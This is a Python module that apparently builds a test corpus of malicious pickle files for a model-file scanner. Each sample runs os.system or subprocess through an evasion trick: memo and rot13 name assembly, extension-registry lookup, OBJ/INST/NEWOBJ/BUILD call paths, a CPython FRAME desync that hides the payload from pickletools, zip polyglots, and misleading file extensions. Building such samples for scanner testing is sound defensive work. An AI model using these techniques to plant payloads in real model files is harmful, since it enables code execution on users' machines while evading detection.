"""Malicious pickles whose trick is in the opcodes or the stream, not the callable.

scanner-threats.md §A.11-14 (computed and memo-assembled names, extension registry),
fickling GHSA-mxhj (OBJ + POP), INST/OBJ/NEWOBJ/NEWOBJ_EX/BUILD call paths, §B.19-21
(parser differentials) and §C.24-25 (misleading file names). The callable is always
os.system or subprocess, so that the trick is the only thing under test.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.scanning_corpus._pickle_asm import Build, Call, Global, New, Raw, Seq, assemble, emit
from tests.scanning_corpus._sample import Payload, Recipe, Reduce, Sample, write_recipes

__all__ = ["write_opcode_samples"]

OS_SYSTEM = Global("posix", "system")
PROTO4 = pickle.PROTO + b"\x04"


def _system(p: Payload, proto: int = 4) -> bytes:
    """Opcodes calling os.system(cmd), leaving its result on the stack."""
    return emit(Call(OS_SYSTEM, p.shell), proto)


def _memo_assembled(p: Payload) -> bytes:
    # The names are pushed and memoized long before STACK_GLOBAL fetches them,
    # BINPUT at a chosen slot for one and MEMOIZE for the other.
    return (
        PROTO4
        + emit("os") + pickle.BINPUT + b"\x07" + pickle.POP
        + emit("system") + pickle.MEMOIZE + pickle.POP  # memo slot len(memo) == 1
        + emit({"weights": [1.0, 2.0]}) + pickle.POP
        + pickle.BINGET + b"\x07" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
        + emit((p.shell,)) + pickle.REDUCE + pickle.STOP
    )  # fmt: skip


def _rot13_names(p: Payload) -> bytes:
    def rot13(text: str) -> bytes:
        return emit(Call(Global("_codecs", "decode"), text, "rot13"))

    return (
        PROTO4
        + rot13("bf") + pickle.MEMOIZE + pickle.POP  # "os" -> memo 0
        + rot13("flfgrz") + pickle.MEMOIZE + pickle.POP  # "system" -> memo 1
        + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
        + emit((p.shell,)) + pickle.REDUCE + pickle.STOP
    )  # fmt: skip


def _memo_index_confusion(p: Payload) -> bytes:
    # MEMOIZE stores at len(memo), not at "number of MEMOIZE ops so far": after one
    # BINPUT at slot 1, MEMOIZE overwrites slot 1. A scanner that numbers MEMOIZE
    # itself sees "builtins" + "system" here; the VM sees "os" + "system".
    return (
        PROTO4
        + emit("builtins") + pickle.BINPUT + b"\x01" + pickle.POP
        + emit("os") + pickle.MEMOIZE + pickle.POP
        + emit("system") + pickle.BINPUT + b"\x00" + pickle.POP
        + pickle.BINGET + b"\x01" + pickle.BINGET + b"\x00" + pickle.STACK_GLOBAL
        + emit((p.shell,)) + pickle.REDUCE + pickle.STOP
    )  # fmt: skip


def _memo_keyerror(p: Payload) -> bytes:
    # The payload runs, then GET reads a slot nothing wrote: the VM raises after.
    return PROTO4 + _system(p) + pickle.POP + pickle.BINGET + b"\x63" + pickle.STOP


def _memo_type_confusion(p: Payload) -> bytes:
    # The payload runs, then an int from the memo is fed to STACK_GLOBAL.
    return (
        PROTO4 + _system(p) + pickle.POP
        + emit(7) + pickle.MEMOIZE + pickle.BINGET + b"\x00" + pickle.STACK_GLOBAL + pickle.STOP
    )  # fmt: skip


def _stack_global_first(p: Payload) -> bytes:
    # No PROTO header: the two STACK_GLOBAL operands are the first opcodes.
    return assemble(Call(Global("os", "system"), p.shell), proto=4, header=False)


def _extension_registry(p: Payload) -> bytes:
    ext = Raw(pickle.EXT1 + bytes([241]) + emit((p.shell,)) + pickle.REDUCE)
    return assemble(Seq(Call(Global("copyreg", "add_extension"), "os", "system", 241), ext))


def _obj_pop(p: Payload) -> bytes:
    # A call by OBJ whose result is POPped: the pickle "returns" an empty dict.
    call = pickle.MARK + emit(OS_SYSTEM, 2) + emit(p.shell, 2) + pickle.OBJ
    return pickle.PROTO + b"\x02" + call + pickle.POP + pickle.EMPTY_DICT + pickle.STOP


def _inst(p: Payload) -> bytes:
    argv = emit(p.argv, 0)
    return pickle.MARK + argv + pickle.INST + b"subprocess\ncheck_call\n" + pickle.STOP


def _obj_class(p: Payload) -> bytes:
    obj = pickle.MARK + emit(Global("subprocess", "Popen"), 1) + emit(p.argv, 1) + pickle.OBJ
    return obj + pickle.STOP


def _build_setstate(p: Payload) -> bytes:
    # BUILD looks __setstate__ up on the instance: the first BUILD puts os.system
    # there, the second calls it with the state.
    namespace = New(Global("types", "SimpleNamespace"))
    return assemble(Build(Build(namespace, {"__setstate__": OS_SYSTEM}), p.shell))


def _broken_after_payload(p: Payload) -> bytes:
    # nullifAI: the payload, then a byte that is no opcode, and no STOP.
    return PROTO4 + _system(p) + b"\xff\xfe" + b"rest of a model that never loads"


def _frame_desync(p: Payload) -> bytes:
    """CPython's C unpickler reads past a FRAME's end (scanner-threats.md §B.20).

    A BINUNICODE inside a frame claims more bytes than the frame has left. The C
    unpickler (3.11) then drops the rest of the frame and takes the string from the
    bytes *after* the frame, so it resumes 5 bytes later than pickletools does: where
    pickletools reads a BINBYTES header that covers the payload as data, the C
    unpickler executes the payload. The frame must be longer than the file object's
    read buffer (8 KiB) for the frame to be read separately; hence the padding.
    (BINBYTES, which the reference names, is read with readinto on 3.11 and does not
    desync; BINUNICODE does.)
    """
    payload = _system(p)
    claimed, tail = 16, 5  # string length the BINUNICODE claims; its bytes inside the frame
    padding = pickle.BINBYTES + struct.pack("<I", 9000) + bytes(9000) + pickle.POP
    frame = padding + pickle.BINUNICODE + struct.pack("<I", claimed) + bytes(tail)
    after = bytes(claimed - tail) + pickle.BINBYTES + struct.pack("<I", len(payload)) + payload
    header = pickle.PROTO + b"\x05" + pickle.FRAME + struct.pack("<Q", len(frame))
    return header + frame + after + pickle.STOP


def _polyglot_zip(p: Payload) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("config.json", '{"hidden_size": 8}')
    return assemble(Call(OS_SYSTEM, p.shell)) + archive.getvalue()


def _concatenated(p: Payload) -> bytes:
    benign = pickle.dumps({"weights": [0.5, 0.25], "epoch": 3}, protocol=4)
    return benign + assemble(Call(OS_SYSTEM, p.shell))


def _protocol(proto: int) -> Callable[[Payload], bytes]:
    def build(p: Payload) -> bytes:
        return pickle.dumps(Reduce(os.system, p.shell), protocol=proto)

    return build


def _plain(p: Payload) -> bytes:
    return pickle.dumps(Reduce(os.system, p.shell), protocol=2)


def _newobj(p: Payload) -> bytes:
    return assemble(Call(New(Global("functools", "partial"), (OS_SYSTEM, p.shell))))


def _newobj_ex(p: Payload) -> bytes:
    run = (Global("subprocess", "run"), p.argv)
    return assemble(Call(New(Global("functools", "partial"), run, {"check": True})))


TRICKS = (
    *(
        Recipe(
            f"os_system_reduce_p{proto}.pkl",
            f"A.1 os.system (posix.system) through REDUCE, written by pickle protocol {proto}",
            _protocol(proto),
        )
        for proto in range(6)
    ),
    Recipe(
        "memo_assembled_stack_global.pkl",
        "A.11 STACK_GLOBAL operands fetched from the memo (BINPUT, MEMOIZE, BINGET)",
        _memo_assembled,
    ),
    Recipe(
        "rot13_computed_stack_global.pkl",
        "A.11 STACK_GLOBAL operands computed by codecs.decode(rot13) and memoized",
        _rot13_names,
    ),
    Recipe(
        "picklescan_issue14_memo_index_confusion.pkl",
        "A.12 MEMOIZE after BINPUT overwrites a memo slot (picklescan issue #14)",
        _memo_index_confusion,
    ),
    Recipe(
        "memo_keyerror_after_payload.pkl",
        "A.12/A.18 GET of a never-written memo slot, after the payload",
        _memo_keyerror,
    ),
    Recipe(
        "memo_type_confusion_stack_global.pkl",
        "A.12/A.18 a non-string memo value fed to STACK_GLOBAL, after the payload",
        _memo_type_confusion,
    ),
    Recipe(
        "ghsa_9gvj_stack_global_first_opcodes.pkl",
        "A.13 STACK_GLOBAL operands are the first opcodes, no PROTO (picklescan GHSA-9gvj)",
        _stack_global_first,
    ),
    Recipe(
        "copyreg_extension_registry_ext1.pkl",
        "A.14 copyreg.add_extension, then EXT1 resolves os.system with no GLOBAL",
        _extension_registry,
    ),
    Recipe(
        "ghsa_mxhj_obj_then_pop.pkl",
        "OBJ calls os.system and POP discards the result (fickling GHSA-mxhj)",
        _obj_pop,
    ),
    Recipe(
        "inst_subprocess_check_call_p0.pkl",
        "INST (protocol 0) instantiates subprocess.check_call",
        _inst,
    ),
    Recipe(
        "obj_subprocess_popen.pkl",
        "OBJ instantiates the subprocess.Popen class (asynchronous child)",
        _obj_class,
    ),
    Recipe(
        "newobj_functools_partial.pkl",
        "NEWOBJ builds functools.partial(os.system, cmd); REDUCE calls it",
        _newobj,
    ),
    Recipe(
        "newobj_ex_functools_partial_kwargs.pkl",
        "NEWOBJ_EX builds functools.partial(subprocess.run, argv, check=True); REDUCE calls it",
        _newobj_ex,
    ),
    Recipe(
        "build_setstate_instance_attribute.pkl",
        "BUILD puts __setstate__ = os.system on an instance; a second BUILD calls it",
        _build_setstate,
    ),
    Recipe(
        "nullifai_broken_stream_after_payload.pkl",
        "B.19 an invalid opcode after the payload, no STOP (nullifAI)",
        _broken_after_payload,
    ),
    Recipe(
        "cpython_frame_desync_binunicode.pkl",
        "B.20 a FRAME shorter than the BINUNICODE inside it hides the payload from pickletools",
        _frame_desync,
    ),
    Recipe(
        "polyglot_pickle_then_zip.pkl",
        "B.21 a malicious pickle followed by a complete benign zip archive",
        _polyglot_zip,
    ),
    Recipe(
        "concatenated_streams_benign_first.pkl",
        "two pickle streams, benign first, malicious second (read by a pickle.load loop)",
        _concatenated,
        "pickle-stream",
    ),
    *(
        Recipe(
            f"cve_2025_10155_plain_pickle{ext}",
            f"C.24 a plain pickle named {ext}, which torch.load runs (CVE-2025-10155)",
            _plain,
            "torch",
        )
        for ext in (".bin", ".pt")
    ),
    *(
        Recipe(
            f"cve_2025_1889_plain_pickle{ext or '_no_extension'}",
            f"C.25 a plain pickle named {ext or 'with no extension'} (CVE-2025-1889)",
            _plain,
        )
        for ext in (".model", ".ckpt2", ".safetensors", "")
    ),
)


def write_opcode_samples(outdir: Path, markers: Path) -> list[Sample]:
    return write_recipes(TRICKS, outdir, markers)
